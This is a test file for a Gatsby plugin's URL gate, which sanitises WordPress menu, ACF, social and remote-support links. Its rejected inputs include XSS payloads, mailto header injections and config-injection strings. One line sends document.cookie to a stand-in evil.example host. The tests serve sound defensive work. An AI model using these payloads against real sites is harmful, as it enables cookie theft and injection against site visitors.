import type { ItemNotice } from '../../plugins/gatsby-source-wp-rest/src/notices/item-notices'
import { buildNodeInputs } from '../../plugins/gatsby-source-wp-rest/src/nodes/build-nodes'
import { checkedLink, remoteSupportProblem } from '../../plugins/gatsby-source-wp-rest/src/normalize/url-gate'
import { CMS, rawContent, restPost } from './support/rest-fixtures'

const ctx = { type: 'menu', id: 'main-menu item 7', label: 'main-menu', notices: [] }
const link = (value: string) => checkedLink(value, ctx, 'url', [CMS])

describe('the URL gate (links outside sanitised HTML)', () => {
  it.each([
    ['/over-ons', '/over-ons'],
    ['#', '#'],
    ['#agenda', '#agenda'],
    [`  ${CMS}/contact/ `, '/contact'],
    ['https://www.knmt.nl/', 'https://www.knmt.nl/'],
    ['http://webinar.example.nl/x?y=1', 'http://webinar.example.nl/x?y=1'],
    ['mailto:support@example.nl', 'mailto:support@example.nl'],
    // Only the address: no recipients or text an author adds to a visitor's mail.
    ['mailto:support@example.nl?bcc=iedereen@example.nl', 'mailto:support@example.nl'],
    ['MAILTO:support@example.nl?subject=Hallo&body=tekst&cc=x@example.nl', 'mailto:support@example.nl'],
    ['tel:+31 88 123 45 67', 'tel:+31 88 123 45 67'],
  ])('lets %j through as %j', (value, expected) => {
    expect(link(value)).toBe(expected)
  })

  it.each([
    'javascript:alert(document.cookie)',
    ' JavaScript:alert(1)',
    'java\tscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox',
    '//evil.example/x',
    '/\\evil.example/x',
    'https://evil.example/a b',
    'https:///nohost',
    'over-ons',
    'mailto:',
    'mailto:?bcc=iedereen@example.nl',
    'mailto:info@example.nl,iedereen@example.nl',
    'mailto:info%0D%0ABcc:iedereen@example.nl',
  ])('refuses %j, naming the item, the field and the value', (value) => {
    const message = (() => {
      try {
        link(value)
        return 'accepted'
      } catch (error) {
        return (error as Error).message
      }
    })()
    expect(message).toMatch(/^Malformed menu item main-menu item 7: field "url" must /)
    expect(message.endsWith(`, got ${JSON.stringify(value)}`)).toBe(true)
  })
})

describe('a javascript: URL costs its field (or menu item), never the build, and is named', () => {
  const attack = 'javascript:fetch("//evil.example/"+document.cookie)'
  const build = (content: ReturnType<typeof rawContent>) => {
    const notices: ItemNotice[] = []
    const nodes = buildNodeInputs(content, [CMS], [], { notices })
    return { fields: (key: string) => nodes.find((node) => node.key === key)?.fields, notices }
  }
  const named = (field: string) => [expect.objectContaining({ field, value: attack, outcome: 'cut' })]

  it('in a menu item: the menu is published without it', () => {
    const menu = [
      { ID: 1003, title: 'Inloggen', url: attack, target: '', classes: '', children: [] },
      { ID: 1004, title: 'Contact', url: '/contact', target: '', classes: '', children: [] },
    ]
    const { fields, notices } = build(rawContent({ menus: { 'main-menu': menu } }))
    expect((fields('WpMenu:main-menu')?.items as Array<{ title: string }>).map((item) => item.title)).toEqual(
      ['Contact'],
    )
    expect(notices).toEqual([
      expect.objectContaining({ restType: 'menu', id: 1003, field: 'url', outcome: 'left-out' }),
    ])
  })

  it('in an ACF link (a partner site)', () => {
    const partner = restPost({ id: 401, type: 'partners', acf: { website: attack, description: 'x' } })
    const { fields, notices } = build(rawContent({ lists: { ...rawContent().lists, partners: [partner] } }))
    expect(fields('WpPartner:401')).toMatchObject({ website: null, description: 'x' })
    expect(notices).toEqual(named('acf.website'))
  })

  it('in the front page hero button', () => {
    const frontPage = { id: 2, title: 'Home', acf: { hero_button: { title: 'Kom', url: attack } } }
    const { fields, notices } = build(rawContent({ frontPage }))
    expect(fields('WpFrontPage:front-page')?.heroButton).toBeNull()
    expect(notices).toEqual([
      expect.objectContaining({ restType: 'pages', id: 2, field: 'acf.hero_button.url' }),
    ])
  })

  it('in a social link of the site options', () => {
    const { fields, notices } = build(rawContent({ options: { acf: { facebook: attack } } }))
    expect(fields('WpSiteOptions:options')?.facebook).toBeNull()
    expect(notices).toEqual(named('facebook'))
  })

  it('in the remote-support option', () => {
    const { fields, notices } = build(rawContent({ options: { acf: { remote_support_url: attack } } }))
    expect(fields('WpSiteOptions:options')?.remoteSupportUrl).toBeNull()
    expect(notices).toEqual(named('remote_support_url'))
  })
})

describe('the remote-support address (it goes into host rules)', () => {
  it.each([
    'https://download.example.nl/TandemMeekijken.exe',
    'https://cms.example.nl/wp-content/uploads/meekijken/Tandem%20Meekijken.exe?v=2',
    'http://127.0.0.1:8881/wp-content/uploads/meekijken/TandemMeekijken.exe',
  ])('accepts %j', (value) => {
    expect(remoteSupportProblem(value)).toBeNull()
  })

  it.each([
    ['http://download.example.nl/x.exe', /https:/],
    ['https://download.example.nl/x.exe 302', /without spaces/],
    ['https://download.example.nl/x.exe;return', /semicolons/],
    ['https://download.example.nl/$host', /\$/],
    ['https://download.example.nl/"x', /quotes/],
    ['https://download.example.nl/x\nlocation / {', /without spaces/],
    ['https://user:secret@download.example.nl/x.exe', /user name or password/],
    ['ftp://download.example.nl/x.exe', /https:/],
  ])('refuses %j', (value, problem) => {
    expect(remoteSupportProblem(value)).toMatch(problem)
  })
})
